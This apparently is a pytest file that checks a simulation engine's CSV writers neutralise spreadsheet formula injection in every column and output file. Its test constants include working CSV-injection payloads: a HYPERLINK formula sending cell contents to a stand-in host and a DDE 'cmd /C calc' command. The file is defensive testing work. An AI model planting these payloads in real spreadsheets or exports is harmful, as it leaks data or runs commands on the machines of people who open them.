"""Spreadsheets never run code (issue 13, item 3): every cell of every CSV accord writes is
neutralised when a spreadsheet would evaluate it (OWASP, "CSV Injection")."""

import csv
import io
import re
from pathlib import Path

import pytest
from conftest import DATA

from engine import api
from engine.cli import main
from engine.read.msel.cells import FORMULA_STARTS
from engine.render import msel
from engine.render.cells import safe_cell, safe_row
from engine.render.compare_report import compare_csv
from engine.render.events_csv import render_events_csv
from engine.render.msel import MselRow, render_msel_csv
from engine.render.per_run import PerRunFile
from engine.simulate.record import EventRecord
from tests.hostile import hostile_files

HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1",
            "\0=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "-12.5"]
NUMBER = re.compile(r"-?\d+(\.\d+)?(e[-+]?\d+)?")


def evaluated(cell: str) -> bool:
    """Whether a spreadsheet could take ``cell`` for a formula: it starts with a formula
    character and is not a plain number (a number accord wrote, such as -3, is a number)."""
    return bool(cell) and cell[0] in FORMULA_STARTS and not NUMBER.fullmatch(cell)


def cells(text: str) -> list[str]:
    """Every cell of a CSV text (a leading BOM dropped)."""
    return [c for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for c in row]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_shown_as_text(formula):
    """A cell a spreadsheet would evaluate gets a leading quote; the rest of it is kept."""
    assert safe_cell(formula) == "'" + formula


@pytest.mark.parametrize("text", ["", "Entry into force", ".5", "T+10d", "a=b", "x-1", "'quoted already",
                                  "collective_defence.completed"])
def test_ordinary_text_is_left_alone(text):
    """Text that does not start a formula is unchanged."""
    assert safe_cell(text) == text


def test_numbers_in_a_row_stay_numbers():
    """In a row, numbers accord computed (a negative difference, a seed) stay numbers a
    spreadsheet reads as such; the same characters as text are guarded."""
    assert safe_row([-12.5, 3, None, "-3", True]) == [-12.5, 3, "", "'-3", "True"]


def test_the_msel_csv_of_a_hostile_inject_holds_no_live_formula(tmp_path, capsysbinary):
    """The issue's example: an inject titled =HYPERLINK(…) is written to msel.csv as text."""
    text = (DATA / "attack_day_ten.yaml").read_text(encoding="utf-8")
    text = text.replace("title: Entry into force", f"title: '{HYPERLINK}'")
    path = tmp_path / "attack_day_ten.yaml"
    path.write_text(text, encoding="utf-8")
    (tmp_path / "mutual_defence.yaml").write_text((DATA / "mutual_defence.yaml").read_text(encoding="utf-8"))
    assert main(["msel", str(path)]) == 0
    out = capsysbinary.readouterr().out.decode("utf-8")
    message = cells(out)[cells(out).index("Message") + 9]  # the first inject's Message cell
    assert message.startswith("'" + HYPERLINK)
    assert not any(evaluated(c) for c in cells(out))


# -- every column of every CSV -----------------------------------------------------------------

def test_every_msel_column_is_neutralised(monkeypatch, load_world):
    """Each of the MSEL's nine columns, header included, holds no live formula whatever the
    scenario put in it."""
    world = load_world("until: 1d\n")
    row = MselRow(*(f"={i}+1" if name != "t" else 0.0 for i, name in enumerate(MselRow.__slots__)))
    monkeypatch.setattr(msel, "msel_rows", lambda _world, _result=None: [row])
    monkeypatch.setattr(msel, "COLUMNS", tuple(f"@col{i}" for i in range(len(msel.COLUMNS))))
    out = cells(render_msel_csv(world))
    assert len(out) == 2 * len(msel.COLUMNS)
    assert not any(evaluated(c) for c in out)
    assert all(c.startswith("'") for c in out)


def test_every_events_csv_column_is_neutralised():
    """seq, t, at, type, by, source, cause and payload: none holds a live formula."""
    result = api.play(api.load(str(DATA / "attack_day_ten.yaml")), nominal=True)
    result.events = [EventRecord(1, 0.0, "=type", "=by", {"=k": "=v"}, "=source", None)]
    out = cells(render_events_csv(result))
    assert "'=type" in out
    assert "'=by" in out
    assert "'=source" in out
    assert not any(evaluated(c) for c in out)


def test_every_compare_csv_column_is_neutralised():
    """milestone, column, values and objective texts: none holds a live formula."""
    doc = {"milestones": [{"milestone": "=m", "values": {"=col": {"t": "=1", "p10": "+2", "p90": "-x",
                                                                  "reached_pct": "@4", "diff_h": "\t5"}}}],
           "objectives": [{"objective": "=o", "values": {"=col": {"status": "=met"}}}]}
    out = cells(compare_csv(doc))
    assert "'=m" in out
    assert "'=col" in out
    assert not any(evaluated(c) for c in out)


def test_every_per_run_column_is_neutralised(tmp_path):
    """The sweep's per-run CSV: header and every cell of every row."""
    path = tmp_path / "runs.csv"
    with PerRunFile(str(path), ["=variant", "run", "@seed"]) as sink:
        sink.write([["=v", 1, "+cmd"], ["@v", -3, 2.5]])
    from engine.render.output import write_paths  # noqa: PLC0415

    write_paths({str(path): sink.staged})
    out = cells(path.read_text(encoding="utf-8"))
    assert out == ["'=variant", "run", "'@seed", "'=v", "1", "'+cmd", "'@v", "-3", "2.5"]


def test_every_csv_of_a_hostile_scenario_is_inert(tmp_path, capsys):
    """A pack and scenario with a formula first in every text field and payload (tests/hostile.py):
    msel.csv, events.csv, compare.csv and the per-run CSV hold no live formula anywhere."""
    path = hostile_files(tmp_path)
    out = tmp_path / "out"
    assert main(["run", str(path), "-q", "--format", "csv", "--out", str(out / "run")]) == 0
    assert main(["compare", str(path), "--no-charts", "-q", "--out", str(out / "compare")]) == 0
    assert main(["sweep", str(path), "--runs", "3", "--variants", "all", "--workers", "1", "--no-charts", "-q",
                 "--out", str(out / "sweep"), "--per-run", str(out / "runs.csv")]) == 0
    written = sorted(out.rglob("*.csv"))
    assert [p.name for p in written] == ["compare.csv", "events.csv", "msel.csv", "runs.csv"]
    for p in written:
        found = cells(p.read_text(encoding="utf-8"))
        assert not [c for c in found if evaluated(c)], p.name
    msel_cells = cells((out / "run" / "msel.csv").read_text(encoding="utf-8"))
    neutralised = [c for c in msel_cells if c.startswith("'" + HYPERLINK)]
    assert len(neutralised) >= 5  # from, to, message, expected response, notes: kept, made inert


def test_the_committed_csvs_hold_no_live_formula():
    """The bundled reports' CSVs (checked by `accord reports --check`) are inert too."""
    for p in Path(__file__).resolve().parents[1].glob("reports/**/*.csv"):
        assert not any(evaluated(c) for c in cells(p.read_text(encoding="utf-8"))), p
